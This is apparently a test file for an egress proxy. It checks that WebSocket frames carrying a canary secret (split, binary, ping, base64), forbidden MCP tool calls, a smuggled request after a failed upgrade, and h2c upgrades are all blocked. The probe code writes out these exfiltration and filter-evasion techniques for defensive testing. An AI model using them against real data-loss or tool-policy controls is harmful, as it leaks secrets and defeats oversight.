// WebSocket: where no rule names it, with a foreign key, with a canary in a frame, with an origin that agrees to nothing. Source: EGRESS W rows; PortSwigger.
import { createHash } from 'node:crypto';
import { expect } from 'vitest';
import { forEachTier, outcomes } from '../support/attack.ts';
import { EgressBox } from '../support/egress-box.ts';

forEachTier('frames are read like bodies, and a failed handshake is no tunnel', async (tier) => {
  let frames = '';
  await using box = new EgressBox(tier, {
    dlp: true,
    allow: [
      { id: 'ws', host: 'ws.wild.test', paths: ['/ws', '/fake'], websocket: 'inspect' },
      { id: 'mcp', host: 'mcp.wild.test', mcp: { tools: ['ok'] }, websocket: 'inspect' },
    ],
    names: { 'ws.wild.test': '93.184.216.40', 'mcp.wild.test': '93.184.216.41' },
    script: (_, response) => void response.end('the origin'),
    upgrade: (request, socket) => {
      if (request.url === '/fake')
        return void socket.write('HTTP/1.1 426 Upgrade Required\r\nContent-Length: 0\r\n\r\n');
      const key = createHash('sha1')
        .update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
        .digest('base64');
      socket.on('data', (chunk: Buffer) => (frames += unmask(chunk)));
      socket.write(
        `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${key}\r\n\r\n`,
      );
    },
  });
  const result = await box.probe(`
WS = 'ws.wild.test'
UP = ('Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: ' + base64.b64encode(b'k' * 16).decode())
def frame(data, first=0x81, masked=True):
    mask = b'\\1\\2\\3\\4' if masked else b''
    body = bytes(byte ^ mask[at % 4] for at, byte in enumerate(data)) if masked else data
    size = bytes([len(data) | (0x80 if masked else 0)]) if len(data) < 126 else bytes([126 | (0x80 if masked else 0)]) + struct.pack('>H', len(data))
    return bytes([first]) + size + mask + body
def speak(name, *frames, target='/ws', lines=UP, host=WS):
    try:
        with secure(host, timeout=3) as link:
            link.sendall(head('GET', target, lines, host))
            first = link.recv(4096)
            if b' 101 ' not in first: return show(name, first)
            for one in frames: link.sendall(one)
            report(name, '101 ' + repr(drain(link)[-120:]))
    except OSError as error: report(name, reason(error))
canary = os.environ['CANARY'].encode()
speak('good', frame(b'hello there'))
speak('canary', frame(b'before'), frame(canary))
speak('split', frame(canary[:9], 0x01), frame(canary[9:], 0x80))
speak('binary', frame(b'\\0\\1' + canary, 0x82))
speak('ping', frame(canary, 0x89))
speak('base64', frame(base64.b64encode(canary)))
def call(tool):
    return json.dumps({'jsonrpc': '2.0', 'id': 1, 'method': 'tools/call', 'params': {'name': tool}}).encode()
speak('tool', frame(call('ok')), host='mcp.wild.test')
speak('evil-tool', frame(call('evil')), host='mcp.wild.test')
speak('evil-split', frame(call('evil')[:30], 0x01), frame(call('evil')[30:], 0x80), host='mcp.wild.test')
speak('evil-binary', frame(call('evil'), 0x82), host='mcp.wild.test')
speak('no-mcp', frame(b'tools/call evil'), host='mcp.wild.test')
speak('unmasked', frame(b'hello', masked=False))
speak('reserved', frame(b'hello', 0xC1))
speak('deflate', frame(b'x', 0xC1), lines=(*UP, 'Sec-WebSocket-Extensions: permessage-deflate'))
speak('fake', b'GET /smuggled HTTP/1.1\\r\\nHost: ws.wild.test\\r\\n\\r\\n', target='/fake')
speak('no-key', lines=UP[:3])
speak('version', lines=(*UP[:2], 'Sec-WebSocket-Version: 99', UP[3]))
speak('h2c', lines=('Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA'))
ask('not-named', 'GET', '/v1/models', (OWN, *UP))
control()
`);
  const seen = outcomes(result);
  expect(seen['good']).toMatch(/^101/);
  expect(seen['control']).toMatch(/^200/);
  for (const name of ['canary', 'split', 'binary', 'ping', 'base64'])
    expect([name, seen[name]]).toEqual([name, expect.stringContaining('network.dlp')]);
  for (const name of ['evil-tool', 'evil-split', 'evil-binary', 'no-mcp'])
    expect([name, seen[name]]).toEqual([name, expect.stringContaining('mcp.mcp')]);
  expect(frames).toContain('"name": "ok"');
  expect(frames).not.toContain('evil');
  expect(box.refusals()).toContainEqual(expect.objectContaining({ rule: 'mcp.mcp.tools' }));
  for (const name of ['no-key', 'version', 'h2c'])
    expect([name, seen[name]]).toEqual([name, expect.stringMatching(/^400 structural/)]);
  expect(seen['not-named']).toMatch(/^403 llm/);
  expect(frames).toContain('hello there');
  expect(frames).not.toContain(box.canary.slice(0, 12));
  expect(box.received).not.toMatch(/smuggled|h2c|permessage-deflate/);
  expect(box.refusals()).toContainEqual(
    expect.objectContaining({ rule: 'network.dlp', host: 'ws.wild.test' }),
  );
});

function unmask(frame: Buffer): string {
  const short = (frame[1] ?? 0) & 127;
  const at = short < 126 ? 2 : 4;
  const mask = frame.subarray(at, at + 4);
  return Buffer.from(frame.subarray(at + 4).map((byte, i) => byte ^ (mask[i % 4] ?? 0))).toString('latin1');
}
